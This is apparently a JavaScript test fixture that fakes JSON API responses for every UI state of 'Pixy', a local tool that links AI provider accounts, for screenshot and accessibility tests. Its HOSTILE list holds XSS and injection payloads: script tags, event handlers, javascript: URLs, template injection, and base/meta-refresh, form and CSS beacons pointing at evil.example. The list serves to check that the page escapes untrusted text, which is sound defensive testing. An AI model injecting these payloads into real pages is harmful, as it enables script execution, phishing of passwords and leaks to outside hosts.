// Every state of the page as responses of the JSON API, for screenshots and accessibility rules. They are faked because some
// take hours or a fault of a provider; the tests of linking run on a real Pixy.

const from = (seconds) => new Date(Date.now() + seconds * 1000).toISOString().replace(/\.\d+Z$/, 'Z');
const HOUR = 3600;
const PAGE = 'http://127.0.0.1:8701';

const CLAUDE = {
  status: 'restricted', accepted: true, url: 'https://www.anthropic.com/legal/consumer-terms',
  says: 'The published terms do not let other programs collect, store or relay logins of Claude.ai; API keys are the supported way.',
};
const OPEN = { status: 'open', accepted: true, url: null, says: 'Made for programs of others.' };

const account = (name, more = {}) => ({
  name, provider: 'claude', title: 'Claude subscription', terms: CLAUDE, flow: 'authorization_code', redirect: 'paste',
  state: 'unlinked', usable: false, identity: null, scopes: [], expires_at: null, refreshed_at: null, next_refresh_at: null,
  error: null, quota: null, usage: null, base_url: `http://127.0.0.1:8700/${name}`, attempt: null, ...more,
});

const LIFE = () => ({ usable: true, expires_at: from(7.2 * HOUR), refreshed_at: from(-0.8 * HOUR), next_refresh_at: from(41 * 60) });
const linked = (name, more) => account(name, {
  state: 'linked', ...LIFE(), identity: ['anna@example.com', 'Acme', 'Max'], scopes: ['user:profile', 'user:inference'], ...more,
});

const day = (requests, tokens = 900) => ({
  hours: requests.map((count, hour) => ({
    from: from((hour - 23) * HOUR), requests: count, input_tokens: count * tokens, output_tokens: count * Math.round(tokens / 9),
  })),
});
const WORKDAY = () => day([0, 0, 0, 0, 0, 0, 0, 2, 9, 31, 46, 40, 12, 38, 57, 61, 44, 20, 3, 0, 6, 14, 22, 17]);
const PLAN = () => [
  { name: '5 hours', used: 0.42, limit: null, remaining: null, resets_at: from(2.2 * HOUR) },
  { name: '7 days', used: 0.91, limit: null, remaining: null, resets_at: from(76 * HOUR) },
];

const attempt = (more = {}) => ({
  attempt: 'a1', flow: 'authorization_code', host: 'claude.ai', scopes: ['user:profile', 'user:inference'], expires_at: from(583),
  authorize_url: 'https://claude.ai/oauth/authorize?code=true&state=st4te-of-this-attempt&redirect_uri='
    + encodeURIComponent('https://platform.claude.com/oauth/code/callback'),
  redirect: 'paste', exchanged: false, stage: 'waiting', identity: null, granted: null, replaces: null, missing_scopes: [],
  notice: null, user_code: null, verification_url: null, verification_url_complete: null, error: null, ...more,
});
const loopback = (address, more) => attempt({
  host: 'auth.openai.com', redirect: 'loopback', scopes: ['openid', 'profile', 'email', 'offline_access'],
  authorize_url: `https://auth.openai.com/oauth/authorize?state=st4te-of-this-attempt&redirect_uri=${encodeURIComponent(address)}`, ...more,
});
const device = (more) => attempt({
  flow: 'device_code', authorize_url: null, host: 'huggingface.co', redirect: 'device', scopes: ['openid', 'profile', 'inference-api'],
  user_code: 'WDJB-MJHT', verification_url: 'https://huggingface.co/device',
  verification_url_complete: 'https://huggingface.co/device?user_code=WDJB-MJHT', ...more,
});
const answered = (more) => ({ exchanged: true, stage: 'to_confirm', identity: ['anna@example.com', 'Acme', 'Max'], ...more });

const codex = (more) => account('codex', { provider: 'codex', title: 'ChatGPT plan (Codex)', redirect: 'loopback', terms: { ...CLAUDE, url: null }, ...more });
const openrouter = (more) => account('openrouter', { provider: 'openrouter', title: 'OpenRouter', terms: OPEN, redirect: 'loopback', ...more });
const face = (more) => account('face', { provider: 'huggingface', title: 'Hugging Face', terms: OPEN, flow: 'device_code', redirect: 'none', ...more });
const key = (more) => account('api', { provider: 'anthropic', title: 'Claude API key', terms: OPEN, flow: 'api_key', redirect: 'none', ...more });

const HELD = 'Port 1455 of this machine, where the provider sends the browser back to, is held by another program, so Pixy cannot receive '
  + 'the redirect. Allow it at the provider, then copy the whole address that the browser ends at and paste it here.';
const ENDED = { title: 'The provider ended the login: invalid_grant.', detail: 'Link it again; until then agents get an error that says so.' };
const MOVED = {
  title: 'The login was moved from https://api.anthropic.com to https://llm-gateway.example.com:8443 by the configuration.',
  detail: 'If you trust the new address, confirm it on the page or with `pixy link claude --moved`, or link the account again. Until then this login is sent nowhere, and agents get an error that says so.',
  reason: 'moved',
};
const LATE = { title: 'The provider does not answer: connection refused.', detail: 'Nothing to do: Pixy retries, and the current token is used until it expires.' };

/** Hostile texts of a provider, a configuration or a person. */
export const HOSTILE = [
  '<script>window.pwned=1</script>',
  '"><img src=x onerror="window.pwned=1">',
  "'><svg/onload=window.pwned=1>",
  '</template></title></textarea><script>window.pwned=1</script>',
  'javascript:window.pwned=1',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '{{constructor.constructor("window.pwned=1")()}}${window.pwned=1}',
  '<a href="javascript:window.pwned=1" autofocus onfocus="window.pwned=1" tabindex=1>x</a>',
  '<base href="//evil.example/"><link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action="//evil.example"><input name=password></form>',
  '<style>*{background:url(//evil.example/x)}</style>',
  '\u202egnp.exe\u2066 \u0000\u0007\u001b[31m',
  'anna@example.com'.padEnd(3000, '\u0301x'),
  `${'W'.repeat(500)}`,
];

const hostile = (text) => linked('claude', {
  title: text.slice(0, 200), identity: [text.slice(0, 200), text.slice(0, 200)], scopes: [text], error: { title: text, detail: text }, state: 'refreshing',
  terms: { ...CLAUDE, says: text, url: text }, quota: [{ name: text, used: 0.5, limit: null, remaining: null, resets_at: from(60) }],
  attempt: null,
});

/** The states by name: the accounts of the API, and what is pressed or typed. `accounts` is a function because it contains times. */
export const STATES = {
  'no-accounts': { accounts: () => [] },
  'first-start': { accounts: () => [account('claude'), openrouter(), key()] },
  terms: { accounts: () => [account('claude', { state: 'needs_terms', terms: { ...CLAUDE, accepted: false } }), openrouter()] },
  'link-paste': { accounts: () => [account('claude', { attempt: attempt() }), openrouter()] },
  'link-paste-wrong': { accounts: () => [account('claude', { attempt: attempt() })], type: 'https://news.example/story?id=7' },
  'link-paste-older': { accounts: () => [account('claude', { attempt: attempt() })], type: 'c0de-from-yesterday#st4te-of-another-one' },
  'link-comes-back': { accounts: (port) => [codex({ attempt: loopback(`http://127.0.0.1:${port}/auth/callback`) })] },
  'link-own-port': { accounts: () => [codex({ attempt: loopback('http://localhost:1455/auth/callback') })] },
  'link-own-port-help': { accounts: () => [codex({ attempt: loopback('http://localhost:1455/auth/callback') })], unfold: true },
  'link-elsewhere': { accounts: () => [codex({ attempt: loopback('http://localhost:8701/auth/callback') })], forwarded: true, unfold: true },
  'link-port-held': { accounts: () => [codex({ attempt: loopback('http://localhost:1455/auth/callback', { redirect: 'paste', notice: HELD }) })] },
  'link-device': { accounts: () => [face({ attempt: device() })] },
  'link-device-typed': { accounts: () => [face({ attempt: device({ verification_url_complete: null }) }), openrouter()] },
  'link-device-anew': { accounts: () => [linked('claude', { attempt: device({ replaces: ['anna@example.com', 'Acme', 'Max'] }) })] },
  'link-device-exchanging': { accounts: () => [face({ attempt: device({ stage: 'exchanging' }) })] },
  'link-device-is-this-you': { accounts: () => [face({ attempt: device(answered({ identity: ['anna'], granted: ['openid', 'profile', 'inference-api'] })) })] },
  'link-exchanging': { accounts: () => [account('claude', { attempt: attempt({ stage: 'exchanging' }) })] },
  'link-failed': {
    accounts: () => [account('claude', { attempt: attempt({ stage: 'failed', error: {
      type: 'urn:pixy:problem:code_refused', title: 'platform.claude.com rejected the code (invalid_grant): it was already used, has expired, or belongs to another attempt.',
      detail: 'A code works once, so start again.' } }) })],
  },
  'link-denied': {
    accounts: () => [face({ attempt: device({ stage: 'failed', error: {
      type: 'urn:pixy:problem:consent_denied', title: 'Access was denied at the provider.', detail: 'Start again if that was a mistake.' } }) })],
  },
  'link-too-late': {
    accounts: () => [face({ attempt: device({ stage: 'failed', error: {
      type: 'urn:pixy:problem:device_code_expired', title: 'The code was not typed in time.', detail: 'Start again for a new one.' } }) })],
  },
  'link-scope-missing': {
    accounts: () => [linked('claude', { attempt: attempt({ stage: 'failed', missing_scopes: ['user:inference'], replaces: ['anna@example.com', 'Acme', 'Max'], error: {
      type: 'urn:pixy:problem:scope_missing', title: 'The provider did not grant user:inference, without which the account cannot be used.',
      detail: "Start again and allow it, or ask the operator of the provider." } }) })],
  },
  'link-unproven': {
    accounts: () => [account('work', { title: 'Login at login.example.com', terms: OPEN, attempt: attempt({ stage: 'failed', error: {
      type: 'urn:pixy:problem:id_token_refused', title: "The provider's proof of who this is was rejected: it has expired, or this machine's clock is wrong.",
      detail: 'Pixy revokes the login. Start again; if it fails again, check `issuer` and the client id in Pixy\'s configuration.' } }) })],
  },
  'is-this-you': { accounts: () => [account('claude', { attempt: attempt(answered({ granted: ['user:profile', 'user:inference'] })) }), openrouter()] },
  'somebody-else': {
    accounts: () => [linked('claude', { attempt: attempt(answered({
      identity: ['bob@example.net', 'Bob'], granted: ['user:inference', 'org:create_api_key'], missing_scopes: ['user:profile'],
      replaces: ['anna@example.com', 'Acme', 'Max'] })) })],
  },
  working: {
    accounts: () => [
      linked('claude', { quota: PLAN(), usage: WORKDAY() }),
      codex({ state: 'linked', ...LIFE(), identity: ['anna@example.com', 'Plus'], usage: day([...Array(21).fill(0), 1, 0, 4], 5200),
        quota: [{ name: '5 hours', used: null, limit: null, remaining: null, resets_at: from(-1200) }, { name: '7 days', used: 0.07, limit: null, remaining: null, resets_at: from(120 * HOUR) }] }),
      openrouter({ state: 'linked', usable: true, identity: ['user_2Jx'], refreshed_at: from(-20 * 24 * HOUR) }),
    ],
  },
  picture: { accounts: () => [linked('claude', { quota: PLAN(), usage: WORKDAY() }), openrouter({ state: 'linked', usable: true, identity: ['user_2Jx'], refreshed_at: from(-20 * 24 * HOUR) })] },
  'one-working': { accounts: () => [linked('claude', { quota: PLAN(), usage: WORKDAY() })] },
  'use-it': { accounts: () => [linked('claude', { quota: PLAN(), usage: WORKDAY() })], press: 'Use it' },
  'needs-you': {
    accounts: () => [linked('codex', { title: 'ChatGPT plan (Codex)' }), linked('claude', { state: 'relink_required', usable: false, expires_at: null, next_refresh_at: null, error: ENDED, usage: WORKDAY() })],
  },
  moved: {
    accounts: () => [linked('codex', { title: 'ChatGPT plan (Codex)' }), linked('claude', { state: 'relink_required', usable: false, next_refresh_at: null, error: MOVED })],
  },
  'moved-key': { accounts: () => [key({ state: 'relink_required', usable: false, error: MOVED })] },
  renewing: {
    accounts: () => [
      linked('claude', { state: 'refreshing', error: LATE, next_refresh_at: from(32), expires_at: from(9 * 60) }),
      codex({ state: 'uncertain', ...LIFE(), identity: ['anna@example.com'], error: { title: 'Pixy sent a renewal and heard no answer.', detail: LATE.detail }, next_refresh_at: from(20) }),
      linked('work', { title: 'Login at login.example.com', terms: OPEN, state: 'refreshing' }),
      account('lab', { title: 'Lab gateway', terms: OPEN, state: 'starting' }),
    ],
  },
  keys: { accounts: () => [key({ state: 'linked', usable: true, refreshed_at: from(-3 * 24 * HOUR), usage: WORKDAY() }), key({ name: 'spare' })] },
  'give-a-key': { accounts: () => [key()], press: 'Add API key' },
  'ends-for-good': { accounts: () => [linked('work', { title: 'Login at login.example.com', terms: OPEN, next_refresh_at: null, scopes: [] })] },
  unlink: { accounts: () => [linked('claude')], press: 'Unlink' },
  hostile: { accounts: () => HOSTILE.map((text, n) => ({ ...hostile(text), name: `hostile-${n}` })) },
};

/** The answer of `GET /api/accounts/{name}/env`. */
export const ENV = [
  { client: 'claude-code', title: 'Claude Code', variables: [], lines: ['export ANTHROPIC_BASE_URL=http://127.0.0.1:8700/claude', 'export ANTHROPIC_AUTH_TOKEN=pixy'] },
  { client: 'anthropic', title: 'Anthropic SDKs', variables: [], lines: ['export ANTHROPIC_BASE_URL=http://127.0.0.1:8700/claude', 'export ANTHROPIC_AUTH_TOKEN=pixy'] },
  { client: 'curl', title: 'curl', variables: [], lines: [`curl -N http://127.0.0.1:8700/claude/v1/messages -H 'content-type: application/json' -d '{"model":"your-model","max_tokens":100,"stream":true,"messages":[{"role":"user","content":"hi"}]}'`] },
];
